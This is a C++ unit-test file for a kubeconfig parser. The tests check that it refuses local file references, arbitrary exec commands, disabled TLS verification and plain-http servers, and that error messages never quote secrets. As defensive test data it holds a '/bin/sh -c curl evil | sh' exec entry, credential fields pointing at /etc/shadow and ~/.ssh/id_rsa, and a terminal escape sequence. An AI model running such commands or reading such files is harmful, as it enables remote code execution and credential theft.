#include <wisetup/core/error.hpp>
#include <wisetup/http/base64.hpp>
#include <wisetup/kube/kubeconfig.hpp>

#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <functional>

namespace wisetup::kube {
namespace {

constexpr char const* k_ca = "-----BEGIN CERTIFICATE-----\nQ0E=\n-----END CERTIFICATE-----\n";
constexpr char const* k_cert = "-----BEGIN CERTIFICATE-----\nQ0VSVA==\n-----END CERTIFICATE-----\n";
constexpr char const* k_key =
    "-----BEGIN RSA PRIVATE KEY-----\nS0VZLVNFQ1JFVA==\n-----END RSA PRIVATE KEY-----\n";
constexpr char const* k_token = "tok-SECRET-123";

std::string base64(std::string const& text) {
  return http::base64_encode(text);
}

std::string kubeconfig(std::string const& user, std::string const& cluster_extra = {}) {
  return "apiVersion: v1\n"
         "kind: Config\n"
         "current-context: aks1\n"
         "contexts:\n"
         "- name: other\n"
         "  context: {cluster: nowhere, user: nobody}\n"
         "- name: aks1\n"
         "  context:\n"
         "    cluster: aks1\n"
         "    user: clusterUser_rg1_aks1\n"
         "clusters:\n"
         "- name: aks1\n"
         "  cluster:\n"
         "    server: https://aks1-dns.hcp.eastus.azmk8s.io:443\n"
         "    certificate-authority-data: " +
         base64(k_ca) + "\n" + cluster_extra +
         "users:\n"
         "- name: clusterUser_rg1_aks1\n"
         "  user:\n" +
         user;
}

std::string error_of(std::function<void()> const& action) {
  try {
    action();
  } catch (core::InvalidInput const& error) {
    return error.what();
  }
  ADD_FAILURE() << "expected InvalidInput";
  return {};
}

TEST(KubeconfigTest, ReadsAClientCertificateUser) {
  auto const config = parse_kubeconfig(kubeconfig("    client-certificate-data: " + base64(k_cert) +
                                                  "\n    client-key-data: " + base64(k_key) + "\n"),
                                       "test");
  EXPECT_EQ(config.server, "https://aks1-dns.hcp.eastus.azmk8s.io:443");
  EXPECT_EQ(config.certificate_authority_pem, k_ca);
  EXPECT_EQ(config.client_certificate_pem, k_cert);
  EXPECT_EQ(config.client_key_pem, k_key);
  EXPECT_TRUE(config.token.empty());
  EXPECT_TRUE(config.exec_command.empty());
}

TEST(KubeconfigTest, ReadsATokenUser) {
  auto const config =
      parse_kubeconfig(kubeconfig(std::string("    token: ") + k_token + "\n"), "t");
  EXPECT_EQ(config.token, k_token);
  EXPECT_TRUE(config.client_certificate_pem.empty());
}

TEST(KubeconfigTest, ReadsTheClustersProxyUrl) {
  auto const config = parse_kubeconfig(kubeconfig(std::string("    token: ") + k_token + "\n",
                                                  "    proxy-url: http://proxy.corp:3128\n"),
                                       "t");
  EXPECT_EQ(config.proxy_url, "http://proxy.corp:3128");
  EXPECT_TRUE(parse_kubeconfig(kubeconfig(std::string("    token: ") + k_token + "\n"), "t")
                  .proxy_url.empty());
}

TEST(KubeconfigTest, ReadsAnExecUser) {
  auto const config = parse_kubeconfig(kubeconfig("    exec:\n"
                                                  "      apiVersion: "
                                                  "client.authentication.k8s.io/v1beta1\n"
                                                  "      command: kubelogin\n"
                                                  "      args: [get-token, --server-id, x]\n"),
                                       "t");
  EXPECT_EQ(config.exec_command, "kubelogin");
  EXPECT_TRUE(config.token.empty());
}

TEST(KubeconfigTest, ReadsAnAuthProviderUser) {
  auto const config = parse_kubeconfig(
      kubeconfig("    auth-provider:\n      name: azure\n      config: {apiserver-id: x}\n"), "t");
  EXPECT_EQ(config.auth_provider, "azure");
}

TEST(KubeconfigTest, FileFieldsAreRefusedAndNeverRead) {
  // A readable file next to the kubeconfig: the server's kubeconfig still must not make us read
  // it, relative or absolute, alone or beside the inline field.
  auto const folder = std::filesystem::temp_directory_path() /
                      ("wisetup-kubeconfig-test-" +
                       std::to_string(::testing::UnitTest::GetInstance()->random_seed()));
  std::filesystem::create_directories(folder);
  std::ofstream(folder / "ca.pem") << k_ca;
  auto const ca_yaml = "current-context: c\n"
                       "contexts: [{name: c, context: {cluster: k, user: u}}]\n"
                       "clusters: [{name: k, cluster: {server: 'https://k:6443', "
                       "certificate-authority: ca.pem}}]\n"
                       "users: [{name: u, user: {token: t}}]\n";
  auto const path = folder / "config";
  std::ofstream(path) << ca_yaml;
  auto const ca = error_of([&] { (void)parse_kubeconfig(ca_yaml, path.string()); });
  EXPECT_NE(ca.find("clusters[name=k].cluster.certificate-authority,"), std::string::npos) << ca;
  EXPECT_NE(ca.find("never reads local files named by a server's kubeconfig"), std::string::npos)
      << ca;
  EXPECT_NE(ca.find("certificate-authority-data"), std::string::npos) << ca;
  EXPECT_EQ(ca.find("ca.pem"), std::string::npos) << ca; // the path is not quoted either
  std::filesystem::remove_all(folder);

  auto const both = error_of([] {
    (void)parse_kubeconfig(
        kubeconfig("    token: t\n", "    certificate-authority: /etc/kubernetes/ca.crt\n"), "s");
  });
  EXPECT_NE(both.find("clusters[name=aks1].cluster.certificate-authority,"), std::string::npos)
      << both;

  struct Case {
    std::string user;
    std::string field;
  };
  for (auto const& [user, field] :
       std::vector<Case>{{"    client-certificate: /home/me/.kube/cert.pem\n    client-key-data: " +
                              base64(k_key) + "\n",
                          "users[name=clusterUser_rg1_aks1].user.client-certificate"},
                         {"    client-certificate-data: " + base64(k_cert) +
                              "\n    client-key: /home/me/.ssh/id_rsa\n",
                          "users[name=clusterUser_rg1_aks1].user.client-key"},
                         {"    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n",
                          "users[name=clusterUser_rg1_aks1].user.tokenFile"},
                         {"    token: t\n    tokenFile: /etc/shadow\n",
                          "users[name=clusterUser_rg1_aks1].user.tokenFile"}}) {
    auto const message = error_of([&] { (void)parse_kubeconfig(kubeconfig(user), "src"); });
    EXPECT_NE(message.find(field + ","), std::string::npos) << message;
    EXPECT_NE(message.find("never reads local files"), std::string::npos) << message;
    EXPECT_EQ(message.find("/"), message.find("//")) << "no path quoted: " << message;
  }
}

TEST(KubeconfigTest, ExecCommandOtherThanKubeloginIsRefusedAndNamed) {
  for (std::string const command : {"/bin/sh", "aws", "/usr/local/bin/kubelogin", "Kubelogin"}) {
    auto const message = error_of([&] {
      (void)parse_kubeconfig(kubeconfig("    exec:\n      command: " + command +
                                        "\n      args: [-c, 'curl evil | sh']\n"),
                             "the user credential");
    });
    EXPECT_NE(message.find("exec.command \"" + command + "\""), std::string::npos) << message;
    EXPECT_NE(message.find("never runs a command"), std::string::npos) << message;
    EXPECT_NE(message.find("the user credential"), std::string::npos) << message;
  }
  // A name with control characters is quoted harmlessly.
  auto const escape = error_of([] {
    (void)parse_kubeconfig(kubeconfig("    exec:\n      command: \"evil\\e[2Jx\"\n"), "src");
  });
  EXPECT_EQ(escape.find('\x1b'), std::string::npos) << escape;
  EXPECT_NE(escape.find("\"evil?[2Jx\""), std::string::npos) << escape;
}

TEST(KubeconfigTest, AuthProviderOtherThanAzureIsRefusedAndNamed) {
  auto const message = error_of([] {
    (void)parse_kubeconfig(
        kubeconfig("    auth-provider:\n      name: gcp\n      config: {cmd-path: /bin/sh}\n"),
        "src");
  });
  EXPECT_NE(message.find("auth-provider.name \"gcp\""), std::string::npos) << message;
}

TEST(KubeconfigTest, InsecureSkipTlsVerifyIsRefused) {
  for (std::string const on : {"true", "True", "yes"}) {
    auto const message = error_of([&] {
      (void)parse_kubeconfig(
          kubeconfig("    token: t\n", "    insecure-skip-tls-verify: " + on + "\n"), "src");
    });
    EXPECT_NE(message.find("clusters[name=aks1].cluster.insecure-skip-tls-verify: true"),
              std::string::npos)
        << message;
    EXPECT_NE(message.find("never switches off"), std::string::npos) << message;
  }
  auto const odd = error_of([] {
    (void)parse_kubeconfig(kubeconfig("    token: t\n", "    insecure-skip-tls-verify: maybe\n"),
                           "src");
  });
  EXPECT_NE(odd.find("insecure-skip-tls-verify that is not true or false"), std::string::npos)
      << odd;
  // Verification left on is fine.
  auto const config = parse_kubeconfig(
      kubeconfig("    token: t\n", "    insecure-skip-tls-verify: false\n"), "src");
  EXPECT_EQ(config.token, "t");
}

TEST(KubeconfigTest, MissingCurrentContextIsNamed) {
  auto yaml = kubeconfig("    token: x\n");
  yaml.replace(yaml.find("current-context: aks1\n"), 22, "");
  auto const message = error_of([&] { (void)parse_kubeconfig(yaml, "the user credential"); });
  EXPECT_NE(message.find("current-context"), std::string::npos) << message;
  EXPECT_NE(message.find("the user credential"), std::string::npos) << message;
}

TEST(KubeconfigTest, MissingEntriesAndFieldsAreNamed) {
  auto const no_context =
      error_of([] { (void)parse_kubeconfig("current-context: x\ncontexts: []\n", "src"); });
  EXPECT_NE(no_context.find("contexts[name=x]"), std::string::npos) << no_context;

  auto yaml = kubeconfig("    token: x\n");
  auto const server = yaml.find("    server:");
  yaml.erase(server, yaml.find('\n', server) + 1 - server);
  auto const no_server = error_of([&] { (void)parse_kubeconfig(yaml, "src"); });
  EXPECT_NE(no_server.find("clusters[name=aks1].cluster.server"), std::string::npos) << no_server;

  EXPECT_THROW((void)parse_kubeconfig("just text", "src"), core::InvalidInput);
  EXPECT_THROW((void)parse_kubeconfig("a: [unclosed", "src"), core::InvalidInput);
}

TEST(KubeconfigTest, PlainHttpServerIsRefused) {
  auto yaml = kubeconfig("    token: x\n");
  yaml.replace(yaml.find("https://"), 8, "http://");
  auto const message = error_of([&] { (void)parse_kubeconfig(yaml, "src"); });
  EXPECT_NE(message.find("https://"), std::string::npos) << message;

  auto no_host = kubeconfig("    token: x\n");
  auto const server = no_host.find("https://");
  no_host.replace(server, no_host.find('\n', server) - server, "https://");
  auto const empty = error_of([&] { (void)parse_kubeconfig(no_host, "src"); });
  EXPECT_NE(empty.find(".server that is not an https:// URL"), std::string::npos) << empty;
}

TEST(KubeconfigTest, ErrorsNeverQuoteSecrets) {
  // A broken key next to a token: the message names the field, not the material.
  auto const bad_key = error_of([] {
    (void)parse_kubeconfig(kubeconfig(std::string("    token: ") + k_token +
                                      "\n    client-certificate-data: " + base64(k_cert) +
                                      "\n    client-key-data: S0VZ$SECRET\n"),
                           "src");
  });
  EXPECT_NE(bad_key.find("client-key-data"), std::string::npos) << bad_key;
  EXPECT_EQ(bad_key.find("SECRET"), std::string::npos) << bad_key;

  auto const not_pem = error_of([] {
    (void)parse_kubeconfig(kubeconfig("    client-certificate-data: " + base64(k_cert) +
                                      "\n    client-key-data: " + base64("KEY-SECRET") + "\n"),
                           "src");
  });
  EXPECT_NE(not_pem.find("PEM"), std::string::npos) << not_pem;
  EXPECT_EQ(not_pem.find("SECRET"), std::string::npos) << not_pem;

  auto const no_key = error_of([] {
    (void)parse_kubeconfig(kubeconfig("    client-certificate-data: " + base64(k_cert) + "\n"),
                           "src");
  });
  EXPECT_NE(no_key.find("no client key"), std::string::npos) << no_key;

  auto const yaml_error = error_of([] {
    (void)parse_kubeconfig(std::string("users:\n  - token: ") + k_token + "\n    : [oops", "src");
  });
  EXPECT_EQ(yaml_error.find(k_token), std::string::npos) << yaml_error;
}

} // namespace
} // namespace wisetup::kube
